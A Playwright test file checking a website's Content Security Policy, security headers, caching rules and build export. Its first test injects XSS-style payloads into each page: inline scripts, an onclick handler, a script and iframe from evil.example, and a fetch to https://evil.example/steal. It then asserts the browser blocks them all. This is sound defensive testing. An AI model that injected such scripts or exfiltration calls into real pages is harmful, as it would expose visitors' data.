import { readdir, readFile } from "node:fs/promises";
import path from "node:path";
import words from "../lib/content/words.json" with { type: "json" };
import { gallery } from "../lib/gallery";
import { services } from "../lib/services";
import { testSites } from "./setup/test-sites";
import { expect, needsLocalServer, test } from "./test";

/** What is smuggled in below, as the browser names it when it refuses it. */
const everything = [
  "connect-src https://evil.example/steal",
  "frame-src https://evil.example",
  "img-src https://evil.example/x.png",
  "script-src-attr inline",
  "script-src-elem https://evil.example/x.js",
  "script-src-elem inline",
  "style-src-elem inline",
];
/** Every kind of page: the editor alone writes styles of its own. */
const pages = {
  "/": everything,
  "/404.html": everything,
  "/nothing-here": everything,
  "/edit/": everything.filter((one) => !one.startsWith("style")),
};

for (const [address, refused] of Object.entries(pages)) {
  test.describe(`at ${address}`, () => {
    test.use({ expectedErrors: /Content Security Policy|Failed to load resource/ });

    test("nothing that is smuggled in runs, shows or calls a stranger", async ({ page }) => {
      // What the editor does by itself, its own stories tell.
      await page.route("/edit/sveltia-cms.js", (route) => route.abort());
      await page.goto(address);
      await page.evaluate(() => {
        const seen: string[] = [];
        Object.assign(window, { seen });
        addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
          seen.push(`${effectiveDirective} ${blockedURI}`);
        });
        const add = (name: string, properties: object) =>
          document.body.append(Object.assign(document.createElement(name), properties));
        add("script", { textContent: "window.hacked = 'inline'" });
        add("script", { src: "https://evil.example/x.js" });
        add("style", { textContent: "body { display: none }" });
        add("div", { innerHTML: `<i onclick="window.hacked = 'attribute'">press</i>` });
        add("img", { src: "https://evil.example/x.png" });
        add("iframe", { src: "https://evil.example/" });
        fetch("https://evil.example/steal").catch(() => {});
      });
      const seen = () => page.evaluate(() => Reflect.get(window, "seen").sort());
      await expect.poll(seen).toEqual(refused);
      await page.getByText("press").dispatchEvent("click");
      expect(await page.evaluate(() => "hacked" in window)).toBe(false);
    });

    test("it cannot be shown in anybody's frame", async ({ page, baseURL }) => {
      await page.setContent(`<iframe src="${new URL(address, baseURL)}"></iframe>`);
      await expect.poll(() => page.frames()[1]?.url()).toBe("chrome-error://chromewebdata/");
    });
  });
}

for (const address of ["/", "/nothing-here"]) {
  test.describe(`at ${address}`, () => {
    test.use({ expectedErrors: /Failed to load resource.*404/ });

    test("the page's own styles come with it, and the policy allows them", async ({ page }) => {
      await page.goto(address);
      await expect(page.locator("style")).toHaveCount(1);
      await expect(page.locator("link[rel='stylesheet']:not([media='print'])")).toHaveCount(0);
      await expect(page.locator("body")).toHaveCSS("font-family", /archivo/i);
    });
  });
}

test("what is named by its content is kept for a year, what is not can change with any deploy", async ({
  page,
  request,
}) => {
  await page.goto("/");
  const photo = await page.locator("main source").first().getAttribute("srcset");
  const starter = await page.locator("script[src]").first().getAttribute("src");
  for (const [address, caching] of [
    [photo?.split(" ")[0], /max-age=31536000, immutable/],
    [starter, /max-age=31536000, immutable/],
    ["/images/logo.svg", /^(?!.*immutable)/],
    ["/", /^(?!.*immutable)/],
  ] as const) {
    const headers = (await request.get(address ?? "")).headers();
    expect(headers["cache-control"] ?? "", address ?? "").toMatch(caching);
    expect(headers["strict-transport-security"]).toMatch(/^max-age=\d{8}/);
    expect(headers["x-content-type-options"]).toBe("nosniff");
    expect(headers["referrer-policy"]).toBe("strict-origin-when-cross-origin");
    expect(headers["permissions-policy"]).toContain("camera=()");
    // The editor's sign-in needs it; the page opens no window.
    expect(headers["cross-origin-opener-policy"]).toBe("same-origin-allow-popups");
  }
  expect((await request.get("/edit/")).headers()["x-robots-tag"]).toBe("noindex");
});

test("the export holds no source map, no path of the machine, and in its scripts no more than they need", async () => {
  needsLocalServer("the files are read from disk");
  const { out } = testSites.keyed;
  const names = await readdir(out, { recursive: true });
  expect(names.filter((name) => /\.map$|(^|\/)\.(env|git)/.test(name))).toEqual([]);
  for (const name of names.filter((one) => /\.(html|js|css|txt|json|xml|webmanifest)$/.test(one))) {
    const content = await readFile(path.join(out, name), "utf8");
    expect(content, name).not.toContain("sourceMappingURL");
    expect(content, name).not.toContain(process.cwd());
    if (!name.startsWith("_next/static/chunks")) continue;
    expect(content, name).not.toMatch(/ZodError|safeParse/);
    for (const { text } of [words.share, ...services]) expect(content, name).not.toContain(text);
    for (const { alt } of gallery) expect(content, name).not.toContain(alt);
  }
});
